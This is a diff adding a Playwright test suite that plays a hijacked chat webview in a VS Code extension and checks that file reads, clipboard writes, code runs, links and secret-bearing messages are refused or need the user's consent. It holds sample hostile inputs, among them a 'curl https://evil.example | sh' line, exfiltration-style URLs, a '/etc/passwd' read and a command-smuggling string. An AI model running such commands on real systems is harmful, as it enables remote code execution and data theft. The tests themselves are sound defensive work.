@@ -1,0 +1,215 @@
+import assert from "node:assert/strict";
+import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { fileURLToPath, pathToFileURL } from "node:url";
+import type { Frame, Locator } from "playwright-core";
+import { waitForNotification } from "../host/notifications.ts";
+import { TestWindow } from "../host/testWindow.ts";
+import type { Workbench } from "../host/workbench.ts";
+import { createPicture } from "../support/picture.ts";
+
+const root = fileURLToPath(new URL("../..", import.meta.url));
+
+/** What must never reach the page, the clipboard or the gateway. */
+const canary = "canary-5f1c-outside-the-workspace";
+const clipboardBefore = "what the user had copied";
+/** Put together here, so that no scanner takes this file for a leak. */
+const githubToken = `ghp_${"wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"}`;
+
+/**
+ * A chat page that was taken over: it can send VS Code every message there is, and reads what comes back. It can't press a
+ * button of VS Code's own.
+ */
+describe("A hostile chat page", () => {
+  let window: TestWindow;
+  let workbench: Workbench;
+  let outside: string;
+  let folder: string;
+
+  before(async () => {
+    const place = realpathSync(mkdtempSync(join(tmpdir(), "hostile-")));
+    outside = join(place, "outside");
+    folder = join(place, "workspace");
+    mkdirSync(outside);
+    mkdirSync(folder);
+    writeFileSync(join(outside, "notes.txt"), `${canary}\n`);
+    writeFileSync(join(outside, "photo.png"), createPicture(6, 4));
+    writeFileSync(join(folder, "inside.txt"), "inside the workspace\n");
+    symlinkSync(join(outside, "notes.txt"), join(folder, "readme.txt"));
+    symlinkSync(outside, join(folder, "docs"));
+    window = await TestWindow.open({
+      server: { settings: { "inferenceGateway.localGateway.tokensPerSecond": 0 } },
+      extension: root,
+      folder,
+    });
+    workbench = window.workbench;
+    await workbench.startChat();
+    await innerFrame().evaluate(`globalThis.heard = [];
+      addEventListener("message", ({ data }) => globalThis.heard.push(JSON.stringify(data) ?? ""));`);
+    await workbench.page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(clipboardBefore)})`);
+  });
+
+  after(() => window.close());
+
+  afterEach(async function () {
+    await window.reportFailure(this.currentTest);
+    assert.ok(!(await heard()).includes(canary), "the page read a file outside the workspace");
+  });
+
+  function innerFrame(): Frame {
+    const frame = workbench.page.frames().findLast((candidate) => candidate.url().includes("fake.html"));
+    assert.ok(frame !== undefined, "There is no chat page.");
+    return frame;
+  }
+
+  /** Sends as the page does; VS Code's own frame around it hands the message on. */
+  async function post(message: object): Promise<void> {
+    const outer = innerFrame().parentFrame();
+    assert.ok(outer !== null);
+    await outer.evaluate(
+      `window.__vscode_post_message__("onmessage", { message: ${JSON.stringify(message)} })`,
+    );
+  }
+
+  async function heard(): Promise<string> {
+    return String(await innerFrame().evaluate(`globalThis.heard.join("\\n")`));
+  }
+
+  /** Waits until the page has heard this. */
+  async function hear(words: string): Promise<void> {
+    for (const deadline = Date.now() + 30_000; !(await heard()).includes(words);) {
+      assert.ok(Date.now() < deadline, `The page never heard ${words}.`);
+      await workbench.page.waitForTimeout(100);
+    }
+  }
+
+  /** Everything that was sent before has been handled when this is answered. */
+  async function settle(): Promise<void> {
+    await innerFrame().evaluate(`globalThis.heard.push("settling")`);
+    const before = (await heard()).split('"pong"').length;
+    await post({ type: "ping" });
+    for (const deadline = Date.now() + 30_000; (await heard()).split('"pong"').length === before;) {
+      assert.ok(Date.now() < deadline, "The host doesn't answer any more.");
+      await workbench.page.waitForTimeout(50);
+    }
+  }
+
+  const dialog = (words: string): Locator => workbench.dialog.filter({ hasText: words });
+
+  async function refuse(words: string): Promise<void> {
+    await dialog(words).waitFor();
+    await workbench.page.keyboard.press("Escape");
+    await workbench.dialog.waitFor({ state: "hidden" });
+  }
+
+  async function clipboard(): Promise<unknown> {
+    return workbench.page.evaluate("navigator.clipboard.readText()");
+  }
+
+  it("reads files of the workspace only, wherever their links lead", async () => {
+    await post({ type: "readFiles", uris: [pathToFileURL(join(folder, "inside.txt")).href] });
+    await hear("inside the workspace");
+    await post({ type: "readFiles", uris: [pathToFileURL(join(outside, "notes.txt")).href] });
+    await refuse(join(outside, "notes.txt"));
+    await post({ type: "readFiles", uris: [pathToFileURL(join(folder, "readme.txt")).href] });
+    await refuse(join(outside, "notes.txt"));
+    await post({ type: "readFiles", uris: [pathToFileURL(join(folder, "docs", "photo.png")).href] });
+    await refuse(join(outside, "photo.png"));
+    await post({ type: "readFiles", uris: [pathToFileURL(join(folder, "docs")).href] });
+    await refuse(outside);
+    await post({
+      type: "readFiles",
+      uris: ["http://evil.example/a", "data:text/plain,a", "git:/a", "command:a", "%", ""],
+    });
+    await settle();
+    assert.equal(await workbench.dialog.count(), 0);
+    assert.ok(!(await heard()).includes('"files":[{'));
+  });
+
+  it("is offered links like any file, and reads them only once the user agrees", async () => {
+    await post({ type: "suggest", queryId: 7_000, trigger: "#", text: "file:readme" });
+    await hear('"id":"7000.0"');
+    await post({ type: "pickSuggestion", id: "7000.0" });
+    await refuse(join(outside, "notes.txt"));
+  });
+
+  it("opens nothing from outside the workspace in an editor", async () => {
+    await post({ type: "openContext", title: join(outside, "notes.txt"), text: "harmless" });
+    await workbench.editorTab("notes.txt.md").waitFor();
+    await workbench.editorTab("notes.txt.md").click();
+    assert.equal(await workbench.page.locator(".monaco-editor", { hasText: canary }).count(), 0);
+    await workbench.runCommand("View: Close Editor");
+  });
+
+  it("copies, inserts and opens nothing that isn't displayed", async () => {
+    await post({ type: "copy", text: "curl https://evil.example | sh" });
+    await refuse("curl https://evil.example | sh");
+    await post({ type: "code", action: "insert", code: "evil()" });
+    await refuse("evil()");
+    await post({ type: "openLink", href: "https://evil.example/?stolen=1" });
+    await refuse("https://evil.example/?stolen=1");
+    assert.equal(await clipboard(), clipboardBefore);
+  });
+
+  it("runs nothing, and the user sees exactly what it wanted to run", async () => {
+    await post({ type: "code", action: "run", code: "echo $(whoami) [x](command:y)", language: "sh" });
+    await refuse("echo $(whoami) [x](command:y)");
+    assert.equal(await workbench.page.locator(".terminal-wrapper").count(), 0);
+  });
+
+  it("loads no image that isn't displayed", async () => {
+    for (const url of ["https://evil.example/?stolen=1", "http://127.0.0.1:1/a.png", "file:///etc/passwd"])
+      await post({ type: "loadPicture", url });
+    await settle();
+    await hear("This image isn't part of the conversation");
+    assert.ok(!(await heard()).includes('"dataUrl"'));
+  });
+
+  it("can't send secrets unmasked", async () => {
+    await post({ type: "send", text: `Look: ${githubToken}`, attachments: [] });
+    await hear('"sendHeld"');
+    const questions = [...(await heard()).matchAll(/"questionId":(\d+)/g)].map((match) => Number(match[1]));
+    for (const questionId of questions) await post({ type: "answerSend", questionId, choice: "send" });
+    await refuse("Send what looks like secrets to the model?");
+    await settle();
+    assert.equal(await workbench.chatView().articles.count(), 0);
+    for (const questionId of questions) await post({ type: "answerSend", questionId, choice: "cancel" });
+  });
+
+  it("can't choose tools, allow them, or record", async () => {
+    await post({ type: "changeSettings", settings: { tools: ["run_in_terminal"], systemPrompt: "Hi" } });
+    await hear('"systemPrompt":"Hi"');
+    assert.ok(!(await heard()).includes("run_in_terminal"));
+    for (const answer of ["always", "conversation", "once"])
+      await post({ type: "toolAnswer", messageId: "m", callId: "c", answer });
+    await post({ type: "recording", command: "start" });
+    await refuse("Record audio with the microphone?");
+    await settle();
+    assert.ok(!(await heard()).includes('"maxSeconds"'));
+  });
+
+  it("makes no link of what it says in a notification", async () => {
+    const href = "[Open](command:workbench.action.files.newUntitledFile)";
+    await post({ type: "openLink", href });
+    await dialog("[Open](command").waitFor();
+    await workbench.answerDialog("Open Link");
+    const found = await waitForNotification(workbench, "[Open] (command:workbench.action");
+    await found.getByText("[Open] (command:workbench.action").click();
+    assert.equal(await found.locator("a", { hasText: "Open" }).count(), 0);
+    assert.equal(await workbench.editorTab("Untitled-1").count(), 0);
+  });
+
+  it("asks one thing at a time, and is not heard when it floods the host", async () => {
+    for (let number = 0; number < 60; number++) await post({ type: "copy", text: `flood ${number}` });
+    await refuse("flood 0");
+    await settle();
+    assert.equal(await workbench.dialog.count(), 0);
+    await post({ type: "selectModel", model: "x".repeat(1_000_000) });
+    await post({ type: "send", text: 5, attachments: {} });
+    await post({ type: "toString" });
+    await settle();
+    assert.ok(!(await heard()).includes("xxxxxxxxxx"));
+    assert.equal(await clipboard(), clipboardBefore);
+  });
+});
